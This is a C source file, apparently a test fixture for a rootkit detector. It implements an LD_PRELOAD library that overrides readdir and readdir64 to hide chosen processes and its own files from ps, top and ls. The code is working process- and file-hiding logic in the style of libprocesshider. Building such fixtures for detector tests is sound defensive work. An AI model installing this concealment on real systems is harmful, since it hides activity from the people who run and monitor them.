/*
 * A harmless stand-in for a preload rootkit (libprocesshider and its kin), built by the tests only.
 * Loaded through /etc/ld.so.preload (bind-mounted inside a private mount namespace, never on the
 * host), it overrides readdir/readdir64 so that:
 *   - /proc entries of processes whose comm is HIDE_NAME disappear from ps, top and ls;
 *   - directory entries named HIDE_FILE (the library itself) or "ld.so.preload" disappear too.
 * Build: cc -shared -fPIC -O1 -DHIDE_NAME='"name"' -DHIDE_FILE='"libx.so"' -o libx.so preload-hider.c -ldl
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifndef HIDE_NAME
#error "HIDE_NAME must be defined"
#endif
#ifndef HIDE_FILE
#define HIDE_FILE "libminehunter-hider.so"
#endif

/* Is this DIR* a listing of /proc? Its fd's link tells. */
static int is_proc_dir(DIR *dirp) {
  char link[64], target[256];
  snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(dirp));
  ssize_t n = readlink(link, target, sizeof target - 1);
  if (n < 0) return 0;
  target[n] = 0;
  return strcmp(target, "/proc") == 0;
}

static int comm_matches(const char *pid) {
  char path[64], comm[64];
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  FILE *f = fopen(path, "r");
  if (!f) return 0;
  int ok = fgets(comm, sizeof comm, f) != NULL;
  fclose(f);
  if (!ok) return 0;
  comm[strcspn(comm, "\n")] = 0;
  return strcmp(comm, HIDE_NAME) == 0;
}

static int hide(DIR *dirp, const char *name) {
  if (strcmp(name, HIDE_FILE) == 0 || strcmp(name, "ld.so.preload") == 0) return 1;
  return name[0] >= '0' && name[0] <= '9' && is_proc_dir(dirp) && comm_matches(name);
}

struct dirent *readdir(DIR *dirp) {
  static struct dirent *(*real)(DIR *);
  if (!real) real = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
  struct dirent *d;
  while ((d = real(dirp)) != NULL && hide(dirp, d->d_name)) {
  }
  return d;
}

struct dirent64 *readdir64(DIR *dirp) {
  static struct dirent64 *(*real)(DIR *);
  if (!real) real = (struct dirent64 * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *d;
  while ((d = real(dirp)) != NULL && hide(dirp, d->d_name)) {
  }
  return d;
}
